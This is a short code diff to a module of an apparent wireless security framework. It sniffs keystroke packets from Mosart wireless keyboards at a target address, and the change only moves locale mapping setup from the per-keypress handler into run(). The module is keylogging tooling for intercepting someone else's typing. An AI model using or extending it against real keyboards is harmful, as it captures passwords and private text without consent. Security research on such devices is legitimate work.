@@ -25,7 +25,7 @@ class mosart_keylogger(module.WirelessModule):
 
 	def show(self,pkt):
 		if pkt.state == "pressed":
-			key = HIDMapping(locale=self.args["LOCALE"].lower()).getKeyFromHIDCode(pkt.hidCode,pkt.modifiers)
+			key = self.mapping.getKeyFromHIDCode(pkt.hidCode,pkt.modifiers)
 			if key is not None:
 				
 				if key != self.lastKey:
@@ -47,6 +47,7 @@ class mosart_keylogger(module.WirelessModule):
 
 	def run(self):
 		self.receiver = self.getReceiver(interface=self.args["INTERFACE"])
+		self.mapping = HIDMapping(locale=self.args["LOCALE"].lower())
 		self.receiver.enterSnifferMode(utils.addressArg(self.args["TARGET"]))
 		if self.checkSniffingCapabilities():
 			self.receiver.onEvent("MosartKeyboardKeystrokePacket",callback=self.show)